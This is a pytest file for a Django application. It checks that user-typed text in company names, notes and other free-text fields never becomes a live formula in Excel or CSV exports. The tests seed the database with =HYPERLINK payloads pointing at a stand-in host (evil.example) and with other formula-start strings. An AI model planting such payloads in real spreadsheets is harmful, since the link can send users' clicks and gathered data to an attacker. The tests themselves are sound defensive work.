"""Formula injection: text a user typed never becomes a formula in an Excel file the system writes.

A company registered as `=HYPERLINK("http://…", …)` used to become a live formula (a link that sends
the treasurer's click, and whatever the formula gathers, to the attacker) in the reconciliation
export. Here every free-text column of the project's own tables — company and person names, addresses,
notes, instrument names, reasons, audit notes… — is filled with such a formula, every Excel export
is produced, and openpyxl finds no formula cell in any of them, while the text itself is there."""
import csv
import io
from pathlib import Path

import pytest
from django.apps import apps
from django.conf import settings
from django.db import models
from django.utils import timezone
from openpyxl import load_workbook

from management.models import Export
from management.registers import REGISTERS
from management.dashboard import DASHBOARD_TABLE_KEYS

SKIPPED_FIELDS = {"password"}


def payload(pk, max_length):
    text = f'=HYPERLINK("http://evil.example/{pk}","Klik")'
    if max_length is None or max_length >= len(text):
        return text
    return f"=1+{pk}"[:max_length]


def project_models():
    base = Path(settings.BASE_DIR).resolve()
    for config in apps.get_app_configs():
        path = Path(config.path).resolve()
        if path.is_relative_to(base) and ".venv" not in path.parts:
            yield from config.get_models()


def poison_every_free_text_field() -> int:
    """Every CharField/TextField without choices (and not a file or a password) of every row of the
    project's models, set to a formula: one per row, so that unique columns stay unique."""
    changed = 0
    for model in project_models():
        fields = [f for f in model._meta.concrete_fields
                  if isinstance(f, (models.CharField, models.TextField)) and not isinstance(f, models.FileField)
                  and not f.choices and not f.primary_key and f.name not in SKIPPED_FIELDS]
        if not fields:
            continue
        for pk in model._base_manager.values_list("pk", flat=True):
            model._base_manager.filter(pk=pk).update(**{f.attname: payload(pk, f.max_length) for f in fields})
            changed += 1
    return changed


def cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def formulas_and_payloads(content: bytes) -> tuple[list[str], int]:
    formulas, carried = [], 0
    for cell in cells(content):
        if cell.data_type == "f":
            formulas.append(f"{cell.parent.title}!{cell.coordinate}: {cell.value}")
        elif isinstance(cell.value, str) and cell.value.startswith(("=HYPERLINK", "=1+")):
            carried += 1
    return formulas, carried


@pytest.fixture
def poisoned(users, order_at):
    """A completed order (billing, payment, report, survey), a cancelled one with a reason, then every
    free-text field of every row turned into a formula."""
    completed = order_at("COMPLETED")
    order_at("PAID", customer="pelanggan2")
    assert poison_every_free_text_field() > 100
    completed.refresh_from_db()
    assert completed.company.name.startswith("=HYPERLINK") and completed.notes.startswith("=HYPERLINK")
    return completed


def exports(login, users, django_capture_on_commit_callbacks):
    """(what, content) for every Excel file the system writes."""
    today = timezone.localdate()
    period = {"start": today.replace(month=1, day=1).isoformat(), "end": today.isoformat()}
    head = login(users["kepala_balai"])
    for key in REGISTERS:
        with django_capture_on_commit_callbacks(execute=True):
            head.post("/reports/exports/new/", {"kind": key, "format": "xlsx", **period})
        export = Export.objects.filter(kind=key).latest("id")
        assert export.status == "DONE", (key, export.error if hasattr(export, "error") else "")
        yield key, b"".join(head.get(f"/reports/exports/{export.pk}/download/").streaming_content)
    for key in DASHBOARD_TABLE_KEYS:
        response = head.get(f"/reports/table/{key}.xlsx", period)
        assert response.status_code == 200, key
        yield f"table {key}", response.content
    treasurer = login(users["bendahara"])
    response = treasurer.get(f"/billing/desk/reconciliation.xlsx?from={period['start']}&to={period['end']}")
    assert response.status_code == 200
    yield "reconciliation", response.content
    yield "tariff template", login(users["admin"]).get("/catalog/tariffs/import/template.xlsx").content


def test_no_export_holds_a_formula_and_the_text_is_kept_as_typed(poisoned, login, users,
                                                                django_capture_on_commit_callbacks):
    found, carried = [], {}
    for what, content in exports(login, users, django_capture_on_commit_callbacks):
        formulas, count = formulas_and_payloads(content)
        found += [f"{what}: {f}" for f in formulas]
        carried[what] = count
    assert not found, "formula cells from user text:\n" + "\n".join(found[:30])
    # The poison did reach the files: as plain text, exactly as typed.
    for what in ("order_register", "report_register", "billing_reconciliation", "audit_log", "reconciliation"):
        assert carried[what] > 0, what


def test_csv_text_that_could_start_a_formula_gets_an_apostrophe():
    from management.csvsafe import write_csv

    hostile = ['=HYPERLINK("http://evil.example","Klik")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
    plain = ["PT Sinar Presisi", "a=b", "Rp 1.250.000", ""]
    out = io.StringIO(newline="")
    write_csv(out, ["=Kolom", "Nilai"], [hostile, plain, [-5, 2.5]])

    header, first, second, numbers = csv.reader(io.StringIO(out.getvalue()))
    assert header == ["'=Kolom", "Nilai"]
    assert first == ["'" + text for text in hostile]
    assert second == plain
    assert numbers == ["-5", "2.5"]  # a number is a number, not text to defuse


def test_every_excel_file_is_written_by_the_one_writer():
    """Only reports/xlsx.py writes Excel: no other module builds an openpyxl or XlsxWriter workbook."""
    base = Path(settings.BASE_DIR)
    writers = []
    for path in base.rglob("*.py"):
        parts = path.relative_to(base).parts
        if parts[0] in (".venv", "var", "node_modules") or "tests" in parts or parts[-1].startswith("test_") \
                or parts == ("management", "xlsx.py"):
            continue
        source = path.read_text(encoding="utf-8", errors="replace")
        if "Workbook(" in source or "xlsxwriter" in source.lower():
            writers.append(str(path.relative_to(base)))
    assert writers == [], writers
